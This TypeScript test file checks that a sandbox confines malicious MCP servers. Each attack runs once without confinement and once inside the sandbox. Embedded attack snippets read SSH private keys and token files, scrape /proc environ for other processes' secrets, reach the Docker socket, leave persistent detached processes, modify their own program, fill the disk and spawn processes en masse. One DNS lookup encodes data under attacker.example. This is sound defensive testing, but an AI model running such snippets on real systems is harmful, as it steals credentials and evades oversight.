import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { cpSync, existsSync, mkdirSync, readFileSync, realpathSync, writeFileSync } from 'node:fs'
import { createServer } from 'node:http'
import { type AddressInfo, createServer as createSocket } from 'node:net'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { fileURLToPath } from 'node:url'
import { describe, expect, onTestFinished, test } from 'vitest'
import { openToolpact } from '../../src/app/app.ts'
import type { ConfigSource } from '../../src/app/config/config.ts'
import { probe } from '../../src/capabilities/sandbox/probe.ts'
import { findProcesses } from '../helpers/find-processes.ts'
import { makeFolder } from '../helpers/open-test-pipeline.ts'

const works = 'driver' in (await probe())
const prying = fileURLToPath(new URL('../upstream-servers/prying.cjs', import.meta.url))

/** What a malicious server got: text of a success, or the message of a failure. */
type Attack = (code: string) => Promise<string>

interface Place {
  /** Where the server's own files are, and what it may read. */
  readonly own: string
  /** The user's files, none of which is granted. */
  readonly home: string
  readonly stateDirectory: string
}

/** A server that runs any code, which was granted one folder to read and, if given, hosts. */
async function openMalicious(isolation: 'required' | 'off', network: readonly string[] = []) {
  const home = realpathSync(makeFolder())
  const own = join(home, 'server')
  mkdirSync(own)
  cpSync(prying, join(own, 'server.cjs'))
  writeFileSync(join(own, 'package.json'), '{}')
  mkdirSync(join(home, '.ssh'))
  writeFileSync(join(home, '.ssh', 'id_rsa'), 'a private key')
  const stateDirectory = join(home, 'state')
  mkdirSync(stateDirectory, { mode: 0o700 })
  writeFileSync(join(stateDirectory, 'tokens.json'), 'a token', { mode: 0o600 })
  const entry = { command: process.execPath, args: [join(own, 'server.cjs')], approval: 'never', env: { HOME: home } }
  const grants = isolation === 'required' ? { isolation, network } : { isolation }
  const config = { mcpServers: { odd: { ...entry, ...grants } } } as unknown as ConfigSource
  const toolpact = await openToolpact({ storage: 'memory', stateDirectory, workspace: own, config })
  onTestFinished(() => toolpact.close())
  const attack: Attack = async (code) => {
    const result = await toolpact.call('odd.evaluate', { code })
    return result.success ? (result.output as { text: string }).text : `failed: ${result.error.message}`
  }
  const place: Place = { own, home, stateDirectory }
  return { attack, place, toolpact }
}

/** Both ways: an attack that fails unconfined as well would prove nothing. */
function testBoth(name: string, run: (isolation: 'required' | 'off', isConfined: boolean) => Promise<void>) {
  test(`${name}: works unconfined`, () => run('off', false))
  test.skipIf(!works)(`${name}: is stopped by the sandbox (skipped where none works)`, () => run('required', true))
}

describe('a malicious server', () => {
  testBoth('reading a private key', async (isolation, isConfined) => {
    const { attack, place } = await openMalicious(isolation)
    const got = await attack(
      `return require('fs').readFileSync(${JSON.stringify(join(place.home, '.ssh', 'id_rsa'))}, 'utf8')`,
    )
    if (isConfined) expect(got).toMatch(/^failed: .*ENOENT/s)
    else expect(got).toBe('a private key')
  })

  testBoth('reading the state directory', async (isolation, isConfined) => {
    const { attack, place } = await openMalicious(isolation)
    const got = await attack(
      `return require('fs').readFileSync(${JSON.stringify(join(place.stateDirectory, 'tokens.json'))}, 'utf8')`,
    )
    if (isConfined) expect(got).toMatch(/^failed: .*ENOENT/s)
    else expect(got).toBe('a token')
  })

  testBoth("reading another process's environment", async (isolation, isConfined) => {
    const other = spawn(process.execPath, ['-e', 'setTimeout(() => {}, 30000)'], { env: { OTHER_SECRET: 'hunter2' } })
    onTestFinished(() => void other.kill('SIGKILL'))
    await once(other, 'spawn')
    const { attack } = await openMalicious(isolation)
    const got = await attack(`
      const fs = require('fs')
      const all = fs.readdirSync('/proc').filter((name) => /^\\d+$/.test(name))
      return all.map((pid) => { try { return fs.readFileSync('/proc/' + pid + '/environ', 'utf8') } catch { return '' } }).join()
    `)
    expect(got).not.toMatch(/^failed/)
    if (isConfined) expect(got).not.toContain('OTHER_SECRET=hunter2')
    else expect(got).toContain('OTHER_SECRET=hunter2')
  })

  testBoth('connecting to an unlisted service by address, on IPv4 and IPv6', async (isolation, isConfined) => {
    const servers = await Promise.all(['127.0.0.1', '::1'].map((host) => openEcho(host)))
    const { toolpact } = await openMalicious(isolation)
    for (const { host, port } of servers) {
      const result = await toolpact.call('odd.connect', { host, port })
      if (isConfined) expect(result, host).toMatchObject({ success: false })
      else expect(result, host).toMatchObject({ success: true, output: { text: 'hello\n' } })
    }
    expect(servers.map(({ reached }) => reached())).toEqual(isConfined ? [0, 0] : [1, 1])
  })

  testBoth('connecting to an unlisted service by name', async (isolation, isConfined) => {
    const { port, reached } = await openEcho('127.0.0.1')
    const { toolpact } = await openMalicious(isolation)
    const result = await toolpact.call('odd.connect', { host: 'localhost', port })
    if (isConfined) expect(result).toMatchObject({ success: false })
    else expect(result).toMatchObject({ success: true })
    expect(reached()).toBe(isConfined ? 0 : 1)
  })

  testBoth('reaching a service through its Unix socket, as that of Docker is', async (isolation, isConfined) => {
    const folder = realpathSync(makeFolder())
    const path = join(folder, 'docker.sock')
    const service = createSocket((socket) => socket.end('reached')).listen(path)
    onTestFinished(() => void service.close())
    await once(service, 'listening')
    const { toolpact } = await openMalicious(isolation)
    const result = await toolpact.call('odd.connect', { path })
    if (isConfined) expect(result).toMatchObject({ success: false })
    else expect(result).toMatchObject({ success: true, output: { text: 'reached' } })
  })

  testBoth('leaving a process behind that outlives the server', async (isolation, isConfined) => {
    const { attack, toolpact } = await openMalicious(isolation)
    const mark = `left-${process.pid}-${Date.now()}`
    await attack(`
      const { spawn } = require('child_process')
      const code = 'setTimeout(() => {}, 20000) // ${mark}'
      const child = spawn('setsid', [process.execPath, '-e', code], { detached: true, stdio: 'ignore' })
      child.unref()
      return 'left'
    `)
    const find = () => findProcesses(mark)
    onTestFinished(() => {
      for (const pid of find()) process.kill(pid, 'SIGKILL')
    })
    for (let look = 0; look < 100 && find().length === 0; look++) await sleep(50)
    expect(find().length).toBeGreaterThan(0)
    await toolpact.close()
    for (let look = 0; look < 60 && isConfined && find().length > 0; look++) await sleep(50)
    if (isConfined) expect(find()).toEqual([])
    else expect(find().length).toBeGreaterThan(0)
  })

  testBoth('changing its own program, so that the next start differs', async (isolation, isConfined) => {
    const { attack, place } = await openMalicious(isolation)
    const program = JSON.stringify(join(place.own, 'server.cjs'))
    const got = await attack(`require('fs').appendFileSync(${program}, '// changed'); return 'changed'`)
    const isChanged = readFileSync(join(place.own, 'server.cjs'), 'utf8').endsWith('// changed')
    expect(isChanged).toBe(!isConfined)
    expect(got).toMatch(isConfined ? /^failed: .*EROFS/s : /^changed$/)
  })
})

describe.skipIf(!works)('a malicious server in the sandbox (skipped where none works)', () => {
  test('does not reach a host by a redirect of one that was granted', async () => {
    const secret = createServer((_, response) => response.end('internal')).listen(0, '127.0.0.1')
    await once(secret, 'listening')
    const target = (secret.address() as AddressInfo).port
    const open = createServer((_, response) => response.writeHead(302, { location: `http://127.0.0.1:${target}/` }).end()).listen(0, '127.0.0.1') // biome-ignore format: one line
    await once(open, 'listening')
    onTestFinished(() => {
      secret.close()
      open.close()
    })
    const { port } = open.address() as AddressInfo
    const { toolpact } = await openMalicious('required', [`localhost:${port}`])
    const first = await toolpact.call('odd.get', { url: `http://localhost:${port}/` })
    expect(first).toMatchObject({ success: false, error: { message: expect.stringContaining('302') } })
    const second = await toolpact.call('odd.get', { url: `http://127.0.0.1:${target}/` })
    expect(second).toMatchObject({ success: false, error: { message: expect.stringContaining('403') } })
  })

  test('sends nothing out in the names that it looks up', async () => {
    const { toolpact } = await openMalicious('required')
    const result = await toolpact.call('odd.connect', { host: '736563726574.attacker.example', port: 53 })
    expect(result).toMatchObject({ success: false, error: { message: expect.stringContaining('ENOTFOUND') } })
    const { refused } = toolpact.upstreams.look()[0]!.isolation!
    expect(refused.map(({ grant }) => grant)).toContain('736563726574.attacker.example')
  })

  test('cannot fill the disk beyond its own folders, which are bounded', async () => {
    const { attack } = await openMalicious('required')
    const got = await attack(`
      const fs = require('fs')
      const chunk = Buffer.alloc(16 * 1024 * 1024)
      const file = fs.openSync('/tmp/full', 'w')
      let written = 0
      try { for (let index = 0; index < 128; index++) written += fs.writeSync(file, chunk) } catch (error) { return error.code + ' ' + written }
      return 'all ' + written
    `)
    expect(got).toMatch(/^(?:ENOSPC|EFBIG) \d+$/)
    expect(Number(got.split(' ')[1])).toBeLessThan(1024 * 1024 * 1024)
    expect(existsSync('/tmp/full')).toBe(false)
  })

  test('cannot start processes without end', async () => {
    const { attack, toolpact } = await openMalicious('required')
    const mark = `bomb-${process.pid}-${Date.now()}`
    // Bounded, so that a sandbox that does not hold costs this machine little.
    await attack(`
      const { spawn } = require('child_process')
      for (let index = 0; index < 1500; index++) spawn('/bin/sleep', ['20', '${mark}'], { stdio: 'ignore' }).on('error', () => {})
      return 'started'
    `)
    await sleep(1500)
    const running = findProcesses(mark)
    onTestFinished(() => {
      for (const pid of findProcesses(mark)) process.kill(pid, 'SIGKILL')
    })
    expect(running.length).toBeLessThan(600)
    await toolpact.close()
    for (let look = 0; look < 60 && findProcesses(mark).length > 0; look++) await sleep(50)
    expect(findProcesses(mark)).toEqual([])
  })
})

async function openEcho(host: string) {
  let reached = 0
  const server = createSocket((socket) => {
    reached++
    socket.pipe(socket)
  }).listen(0, host)
  onTestFinished(() => void server.close())
  await once(server, 'listening')
  return { host, port: (server.address() as AddressInfo).port, reached: () => reached }
}
